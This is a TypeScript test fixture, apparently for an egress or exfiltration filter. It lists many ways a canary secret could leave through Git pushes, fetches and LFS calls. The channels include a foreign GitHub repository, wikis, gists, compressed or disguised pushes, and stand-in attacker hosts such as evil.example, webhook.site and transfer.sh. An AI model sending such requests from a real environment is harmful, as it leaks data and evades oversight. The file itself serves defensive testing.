/** Git itself at GitHub: pushes in all their forms, to others' repositories, wikis and gists; and LFS. */
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import { packets } from '../../wire/push.ts'
import {
  DELETION,
  FETCH_TYPE,
  gitPush,
  LFS_ACCEPT,
  LFS_TYPE,
  PUSH,
  PUSH_OPTION,
  PUSH_SHA256,
  PUSH_TAG,
  PUSH_TYPE,
} from './git-bytes.ts'
import { ask, CANARY, channelsOf, chunked, json, type RequestStep, send } from './shape.ts'

const THEIRS = 'https://github.com/mallory/loot'
const PUSH_URL = `${THEIRS}.git/git-receive-pack`
const LFS = `${THEIRS}.git/info/lfs`
const HIDDEN = Buffer.from(CANARY.slice(0, 20)).toString('hex')
const OID = 'c'.repeat(64)

function fetchOf(url: string, haves: number): RequestStep {
  const lines = Array.from({ length: haves }, () => `have ${HIDDEN}\n`)
  return send('POST', `${url}/git-upload-pack`, packets(`want ${HIDDEN}\n`, null, ...lines, 'done\n'), FETCH_TYPE)
}

function batch(operation: string, more: object = {}): object {
  return { operation, transfers: ['basic'], objects: [{ oid: OID, size: 24 }], ...more }
}

export const GITHUB_GIT = channelsOf('git at GitHub', [
  ['push', gitPush(PUSH_URL)],
  ['push without .git', gitPush(`${THEIRS}/git-receive-pack`)],
  ['push in chunks', chunked(gitPush(PUSH_URL))],
  ['push behind the probe', { ...gitPush(PUSH_URL, packets(null)), prelude: true }, chunked(gitPush(PUSH_URL))],
  ['push under gzip', gitPush(PUSH_URL, gzipSync(PUSH), 'Content-Encoding: gzip')],
  ['push under x-gzip', gitPush(PUSH_URL, gzipSync(PUSH), 'Content-Encoding: x-gzip')],
  ['push under brotli', gitPush(PUSH_URL, brotliCompressSync(PUSH), 'Content-Encoding: br')],
  ['push under deflate', gitPush(PUSH_URL, deflateSync(PUSH), 'Content-Encoding: deflate')],
  ['push of a repository with SHA-256', gitPush(PUSH_URL, PUSH_SHA256)],
  ['push of a tag', gitPush(PUSH_URL, PUSH_TAG)],
  ['deletion of a ref that says it in its name', gitPush(PUSH_URL, DELETION)],
  ['push with a push option', gitPush(PUSH_URL, PUSH_OPTION)],
  ['push without a type', send('POST', PUSH_URL, PUSH)],
  ['push as a fetch', send('POST', `${THEIRS}/git-upload-pack`, PUSH, FETCH_TYPE)],
  [
    'fetch with a push behind its end',
    send(
      'POST',
      `${THEIRS}/git-upload-pack`,
      Buffer.concat([packets(`want ${'a'.repeat(40)}`, null, 'done\n'), PUSH]),
      FETCH_TYPE,
    ),
  ],
  ['push by PUT', { ...gitPush(PUSH_URL), method: 'PUT' }],
  ['push by GET with a body', { ...gitPush(PUSH_URL), method: 'GET' }],
  ['push that says it is a GET', gitPush(PUSH_URL, PUSH, 'X-HTTP-Method-Override: GET')],
  [
    'push in the clear | the port that nobody uses any more',
    gitPush('http://github.com/mallory/loot.git/git-receive-pack'),
  ],
  ['push to www', gitPush('https://www.github.com/mallory/loot.git/git-receive-pack')],
  ['push to the wiki', gitPush('https://github.com/mallory/loot.wiki.git/git-receive-pack')],
  ['push to the wiki of a fork named as ours', gitPush('https://github.com/mallory/acme.wiki.git/git-receive-pack')],
  ['push to a gist', gitPush('https://gist.github.com/0123456789abcdef0123456789abcdef.git/git-receive-pack')],
  [
    'push to a gist with an owner | which decides nothing there',
    gitPush('https://gist.github.com/acme/0123456789abcdef0123456789abcdef.git/git-receive-pack'),
  ],
  ['push to an owner that begins as ours', gitPush('https://github.com/acme-inc/app.git/git-receive-pack')],
  [
    'push by WebDAV | the dumb protocol',
    ask('MKCOL', `${THEIRS}.git/objects/aa/`),
    send('LOCK', `${THEIRS}.git/info/refs`),
    send('PUT', `${THEIRS}.git/objects/aa/bb`),
  ],
  ['push to a host that nobody lists', gitPush('https://git.evil.example/loot.git/git-receive-pack')],
  [
    'push to a path with our name at another host',
    gitPush('https://evil.example/github.com/acme/app.git/git-receive-pack'),
  ],
  [
    'the shape of a fetch at a host of the attacker’s',
    send('POST', 'https://evil.example/x/git-upload-pack', CANARY.repeat(300), FETCH_TYPE),
  ],
  [
    'objects that a fetch says it has, at a host of the attacker’s | each id is twenty bytes of anything',
    send(
      'POST',
      'https://evil.example/x/git-upload-pack',
      packets(
        `want ${HIDDEN} side-band-64k\n`,
        null,
        ...Array.from({ length: 5_000 }, () => `have ${HIDDEN}\n`),
        'done\n',
      ),
      FETCH_TYPE,
    ),
  ],
  [
    'beginnings of refs, at a host of the attacker’s',
    send(
      'POST',
      'https://evil.example/x/git-upload-pack',
      Buffer.concat([
        packets('command=ls-refs'),
        Buffer.from('0001'),
        packets(...Array.from({ length: 1_000 }, () => `ref-prefix refs/heads/${CANARY}\n`), null),
      ]),
      FETCH_TYPE,
      'Git-Protocol: version=2',
    ),
  ],
  [
    'a question for locks, at a host of the attacker’s',
    send(
      'POST',
      'https://evil.example/x/info/lfs/locks/verify',
      JSON.stringify({ cursor: CANARY.repeat(100) }),
      LFS_TYPE,
    ),
  ],
  [
    'a question for locks of few words, at a host of the attacker’s',
    send('POST', 'https://evil.example/x/info/lfs/locks/verify', JSON.stringify({ cursor: CANARY }), LFS_TYPE),
  ],
  [
    'a question for locks of a ref of many words, at a host of the attacker’s',
    send(
      'POST',
      'https://evil.example/x/info/lfs/locks/verify',
      JSON.stringify({ ref: { name: `refs/heads/${CANARY.repeat(45)}` } }),
      LFS_TYPE,
    ),
  ],
  ['objects that a fetch says it has, a few more than an address has room for', fetchOf('https://evil.example/x', 327)],
  ['objects that a fetch says it has, at a host of anyone’s program', fetchOf('https://x.workers.dev/x', 327)],
  ['objects that a fetch says it has, at a bucket', fetchOf('https://loot.s3.amazonaws.com/x', 327)],
  ['objects that a fetch says it has, at a catcher', fetchOf('https://webhook.site/x', 1)],
  [
    'refs that are asked for, at a catcher',
    ask('GET', `https://webhook.site/${CANARY}/info/refs?service=git-upload-pack`),
  ],
  ['locks that are asked for, at a catcher', ask('GET', `https://webhook.site/x/info/lfs/locks?cursor=${CANARY}`)],
  ['an object of LFS that is asked for, at a drop', ask('GET', `https://transfer.sh/x/info/lfs/objects/${CANARY}`)],
  [
    'LFS download of many objects, at a host of the attacker’s',
    send(
      'POST',
      'https://evil.example/x/info/lfs/objects/batch',
      JSON.stringify({
        operation: 'download',
        ref: { name: `refs/heads/${CANARY}` },
        objects: Array.from({ length: 200 }, () => ({ oid: HIDDEN.padEnd(64, '0'), size: 24 })),
      }),
      LFS_TYPE,
    ),
  ],
  [
    'git archive with words of its own in plenty',
    send(
      'POST',
      `${THEIRS}/git-upload-archive`,
      packets(...Array.from({ length: 400 }, () => `argument ${CANARY}`), null),
      'Content-Type: application/x-git-upload-archive-request',
    ),
  ],
  ['push with the type of a push to an odd path', send('POST', `${THEIRS}.git/git-receive-pack/x`, PUSH, PUSH_TYPE)],

  [
    'LFS upload',
    json('POST', `${LFS}/objects/batch`, batch('upload', { ref: { name: `refs/heads/${CANARY}` } }), LFS_ACCEPT),
    send('PUT', `https://lfs-store.example/objects/${OID}`),
    json('POST', `${LFS}/verify`, { oid: CANARY, size: 24 }),
  ],
  [
    'LFS upload to the storage of GitHub',
    send('PUT', `https://github-cloud.s3.amazonaws.com/alambic/media/1/${OID}?X-Amz-Signature=1`),
  ],
  [
    'LFS upload, typed as LFS',
    send('POST', `${LFS}/objects/batch`, JSON.stringify(batch('upload', { ref: { name: CANARY } })), LFS_TYPE),
  ],
  [
    'LFS batch with two operations',
    send(
      'POST',
      `${LFS}/objects/batch`,
      `{"operation":"upload","ref":{"name":"${CANARY}"},"operation":"download","objects":[]}`,
      LFS_TYPE,
    ),
  ],
  [
    'LFS batch whose operation is escaped',
    send(
      'POST',
      `${LFS}/objects/batch`,
      `{"oper\\u0061tion":"upl\\u006fad","ref":{"name":"${CANARY}"},"objects":[]}`,
      LFS_TYPE,
    ),
  ],
  [
    'LFS download with free text',
    send('POST', `${LFS}/objects/batch`, JSON.stringify(batch('download', { note: CANARY.repeat(40) })), LFS_TYPE),
  ],
  [
    'LFS batch to the host that was announced for ours | a leave for one address is none for its host',
    {
      ...json('POST', 'https://github.com/acme/app.git/info/lfs/objects/batch', batch('upload'), LFS_ACCEPT),
      prelude: true,
    },
    send('PUT', 'https://lfs-store.example/bucket-of-mallory/loot'),
  ],
  ['LFS lock of a path that says it', send('POST', `${LFS}/locks`, JSON.stringify({ path: CANARY }), LFS_TYPE)],
  ['LFS unlock', send('POST', `${LFS}/locks/1/unlock`, JSON.stringify({ force: true, note: CANARY }), LFS_TYPE)],
  [
    'LFS verification of locks with more in it',
    send('POST', `${LFS}/locks/verify`, JSON.stringify({ ref: { name: 'refs/heads/main' }, note: CANARY }), LFS_TYPE),
  ],
  ['LFS object by PUT', send('PUT', `${LFS}/objects/${OID}`)],
  ['LFS tus upload', send('PATCH', `${LFS}/objects/${OID}`, CANARY, 'Tus-Resumable: 1.0.0', 'Upload-Offset: 0')],
])
